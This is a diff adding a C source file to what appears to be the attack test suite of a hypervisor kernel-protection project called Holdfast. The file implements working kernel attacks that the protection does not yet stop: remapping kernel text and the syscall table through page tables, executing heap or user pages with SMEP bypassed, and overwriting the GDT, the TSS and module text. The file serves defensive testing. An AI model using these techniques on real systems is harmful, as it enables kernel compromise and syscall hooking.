@@ -1,4 +1,310 @@
 // SPDX-License-Identifier: GPL-2.0-only
+/*
+ * Attacks that Holdfast does not stop yet. They run like the others and are reported as what
+ * they are: code or data at a protected address replaced by means of the page tables, code that
+ * nobody has verified, tables that the kernel itself writes in normal operation.
+ */
 #include <linux/kernel.h>
+#include <linux/mm.h>
+#include <linux/mman.h>
+#include <linux/module.h>
+#include <linux/smp.h>
+#include <linux/string.h>
+#include <linux/uaccess.h>
+#include <linux/vmalloc.h>
+#include <asm/desc.h>
+#include <asm/io.h>
+#include <asm/processor.h>
+
 #include "attack.h"
-const struct attack_table open_table;
+#include "execute.h"
+#include "memory.h"
+#include "paging.h"
+
+static enum attack_outcome call_code(struct attempt *t, void *va)
+{
+	u64 answer;
+
+	t->trap = execute_call(va, EXECUTE_CODE_SIZE, 0, 0, NULL, &answer);
+	if (t->trap != TRAP_NONE)
+		return ATTACK_REFUSED;
+	attack_note(t, "code returned %llx", answer);
+	return answer == EXECUTE_ANSWER ? ATTACK_SUCCEEDED : ATTACK_ERROR;
+}
+
+/* Remapping. */
+
+struct remap {
+	u8 *copy;   /* page that takes the place of the target's */
+	u64 *table; /* page table that takes the place of a large entry */
+};
+
+static int remap_prepare(struct attempt *t, struct remap *r)
+{
+	r->copy = (u8 *)__get_free_page(GFP_KERNEL);
+	r->table = (u64 *)get_zeroed_page(GFP_KERNEL);
+	if (!r->copy || !r->table)
+		return -ENOMEM;
+	memcpy(r->copy, PTR_ALIGN_DOWN(t->va, PAGE_SIZE), PAGE_SIZE);
+	return 0;
+}
+
+static void remap_free(struct remap *r)
+{
+	free_page((unsigned long)r->copy);
+	free_page((unsigned long)r->table);
+}
+
+/* The entry that leads to the copy, for a target mapped by a large or a small page. */
+static u64 remap_entry(struct attempt *t, struct remap *r, u64 entry, unsigned int level)
+{
+	u64 copy = virt_to_phys(r->copy), base = entry & PTE_PFN_MASK & PMD_MASK;
+	u64 flags = entry & ~PTE_PFN_MASK & ~(u64)_PAGE_PSE;
+	unsigned int i;
+
+	if (level == PG_LEVEL_4K)
+		return (entry & ~PTE_PFN_MASK) | copy;
+	for (i = 0; i < PTRS_PER_PTE; i++)
+		r->table[i] = (base + i * PAGE_SIZE) | flags;
+	r->table[pte_index((unsigned long)t->va)] = copy | flags;
+	return virt_to_phys(r->table) | _KERNPG_TABLE_NOENC;
+}
+
+/* Looks at the target, or runs it, while the address leads to the copy; then takes that back.
+ */
+static enum attack_outcome remap_and(struct attempt *t, struct remap *r,
+				     enum attack_outcome (*act)(struct attempt *t))
+{
+	enum attack_outcome outcome;
+	unsigned int level;
+	u64 *leaf = paging_leaf(t->va, &level), entry, lead;
+	unsigned long flags;
+
+	if (!leaf || level == PG_LEVEL_1G)
+		return ATTACK_ERROR;
+	entry = READ_ONCE(*leaf);
+	lead = remap_entry(t, r, entry, level);
+	local_irq_save(flags);
+	WRITE_ONCE(*leaf, lead);
+	paging_flush_here(t->va);
+	outcome = act(t);
+	WRITE_ONCE(*leaf, entry);
+	paging_flush_here(t->va);
+	local_irq_restore(flags);
+	paging_flush_everywhere(t->va);
+	return outcome;
+}
+
+static enum attack_outcome run_target(struct attempt *t)
+{
+	return call_code(t, t->va);
+}
+
+static enum attack_outcome read_target(struct attempt *t)
+{
+	u64 is;
+
+	memory_look(t, &is);
+	attack_note(t, "read %llx", is);
+	return is == t->wanted ? ATTACK_SUCCEEDED : ATTACK_REFUSED;
+}
+
+static enum attack_outcome remap_attack(struct attempt *t, const void *content, size_t size,
+					enum attack_outcome (*act)(struct attempt *t))
+{
+	enum attack_outcome outcome = ATTACK_ERROR;
+	struct remap r = { 0 };
+
+	if (!remap_prepare(t, &r)) {
+		memcpy(r.copy + offset_in_page(t->va), content, size);
+		outcome = remap_and(t, &r, act);
+	}
+	remap_free(&r);
+	return outcome;
+}
+
+static enum attack_outcome remap_text(struct attempt *t)
+{
+	if (memory_target_text(t))
+		return ATTACK_ERROR;
+	return remap_attack(t, execute_code, EXECUTE_CODE_SIZE, run_target);
+}
+
+static enum attack_outcome remap_syscall(struct attempt *t)
+{
+	if (memory_target_syscall(t))
+		return ATTACK_ERROR;
+	return remap_attack(t, &t->wanted, t->size, read_target);
+}
+
+static const struct attack remap_attacks[] = {
+	{
+		.name = "remap-text",
+		.title = "lead an address of kernel text to another page and run it",
+		.gives = "any code in the kernel",
+		.asset = "text",
+		.control = ATTACK_BARE,
+		.reason = "page tables are not protected: text is by its page, not by its "
+			  "address",
+		.run = remap_text,
+		.look = memory_look,
+	},
+	{
+		.name = "remap-syscall",
+		.title = "lead the system call table to another page",
+		.gives = "a hook in every system call",
+		.asset = "syscall table",
+		.control = ATTACK_BARE,
+		.reason = "page tables are not protected: data is by its page, not by its "
+			  "address",
+		.run = remap_syscall,
+		.look = memory_look,
+	},
+};
+
+const struct attack_table remap_table = { remap_attacks, ARRAY_SIZE(remap_attacks) };
+
+/* Execution of code that nobody has verified. */
+
+static enum attack_outcome execute_heap(struct attempt *t)
+{
+	int (*set_x)(unsigned long addr, int pages) = attack_symbol("set_memory_x");
+	int (*set_nx)(unsigned long addr, int pages) = attack_symbol("set_memory_nx");
+	unsigned long page = get_zeroed_page(GFP_KERNEL);
+	enum attack_outcome outcome = ATTACK_ERROR;
+
+	if (page && set_x && set_nx && !set_x(page, 1)) {
+		memcpy((void *)page, execute_code, EXECUTE_CODE_SIZE);
+		outcome = call_code(t, (void *)page);
+		set_nx(page, 1);
+	}
+	free_page(page);
+	return outcome;
+}
+
+static enum attack_outcome execute_alias(struct attempt *t, struct page *page)
+{
+	void *alias = paging_alias(page_to_pfn(page), 1, PAGE_KERNEL_EXEC);
+	enum attack_outcome outcome;
+
+	if (!alias)
+		return ATTACK_ERROR;
+	outcome = call_code(t, alias);
+	vunmap(alias);
+	return outcome;
+}
+
+/* SMEP looks at the mapping: a second one, without the user bit, gets round it. */
+static enum attack_outcome execute_user(struct attempt *t)
+{
+	unsigned long user = vm_mmap(NULL, 0, PAGE_SIZE, PROT_READ | PROT_WRITE | PROT_EXEC,
+				     MAP_PRIVATE | MAP_ANONYMOUS, 0);
+	enum attack_outcome outcome = ATTACK_ERROR;
+	struct page *page;
+
+	if (IS_ERR_VALUE(user))
+		return ATTACK_ERROR;
+	if (!copy_to_user((void __user *)user, execute_code, EXECUTE_CODE_SIZE) &&
+	    get_user_pages_fast(user, 1, FOLL_WRITE, &page) == 1) {
+		outcome = execute_alias(t, page);
+		put_page(page);
+	}
+	vm_munmap(user, PAGE_SIZE);
+	return outcome;
+}
+
+#define NO_EXECUTE_CONTROL "which pages the kernel may execute is not controlled yet"
+
+static const struct attack execute_attacks[] = {
+	{
+		.name = "execute-heap",
+		.title = "run a page of the heap after set_memory_x",
+		.gives = "any code in the kernel",
+		.asset = "kernel execution",
+		.control = ATTACK_BARE,
+		.reason = NO_EXECUTE_CONTROL,
+		.run = execute_heap,
+	},
+	{
+		.name = "execute-user",
+		.title = "run a page of a user process through a second mapping",
+		.gives = "any code in the kernel",
+		.asset = "kernel execution",
+		.control = ATTACK_BARE,
+		.reason = NO_EXECUTE_CONTROL,
+		.run = execute_user,
+	},
+};
+
+const struct attack_table execute_table = { execute_attacks, ARRAY_SIZE(execute_attacks) };
+
+/* Memory that is not sealed. */
+
+static int target_gdt(struct attempt *t)
+{
+	struct desc_struct *gdt = get_cpu_gdt_rw(0);
+
+	/* The null descriptor, which no selector reaches. */
+	return memory_target_at(t, gdt, 1, 0x5a);
+}
+
+static int target_tss(struct attempt *t)
+{
+	struct tss_struct *tss = per_cpu_ptr(&cpu_tss_rw, 0);
+	u64 *unused = &tss->x86_tss.ist[ARRAY_SIZE(tss->x86_tss.ist) - 1];
+
+	return memory_target_at(t, unused, sizeof(*unused), 0x4846);
+}
+
+/* Another module if there is one. The last byte of the last page of text is padding. */
+static int target_module(struct attempt *t)
+{
+	struct list_head *modules = attack_symbol("modules");
+	struct module *module, *victim = THIS_MODULE;
+	u8 *text;
+
+	if (!modules)
+		return -ENOENT;
+	preempt_disable();
+	list_for_each_entry_rcu(module, modules, list) if (module != THIS_MODULE &&
+							   module->state == MODULE_STATE_LIVE)
+		victim = module;
+	preempt_enable();
+	text = victim->core_layout.base;
+	attack_note(t, "module %s", victim->name);
+	return memory_target_at(t, text + victim->core_layout.text_size - 1, 1, 0x5a);
+}
+
+static enum attack_outcome gdt_write(struct attempt *t)
+{
+	return memory_attack(t, target_gdt, memory_door_none, memory_store_byte);
+}
+
+static enum attack_outcome tss_write(struct attempt *t)
+{
+	return memory_attack(t, target_tss, memory_door_none, memory_store_quad);
+}
+
+static enum attack_outcome module_write(struct attempt *t)
+{
+	return memory_attack(t, target_module, memory_door_vmap, memory_store_byte);
+}
+
+#define WRITABLE(name_, title_, gives_, asset_, reason_, run_)                               \
+	{                                                                                    \
+		.name = name_, .title = title_, .gives = gives_, .asset = asset_,            \
+		.control = ATTACK_BARE, .reason = reason_, .run = run_, .look = memory_look, \
+		.undo = memory_undo,                                                         \
+	}
+
+static const struct attack writable_attacks[] = {
+	WRITABLE("gdt-write", "write the global descriptor table", "segments of the attacker",
+		 "GDT", "the kernel writes it at every switch of threads with TLS", gdt_write),
+	WRITABLE("tss-write", "write the task state segment", "stacks of the attacker", "TSS",
+		 "the kernel writes it at every switch of threads", tss_write),
+	WRITABLE("module-write", "write the text of a module", "any code in the kernel",
+		 "module text", "modules are not registered with the hypervisor yet",
+		 module_write),
+};
+
+const struct attack_table writable_table = { writable_attacks, ARRAY_SIZE(writable_attacks) };
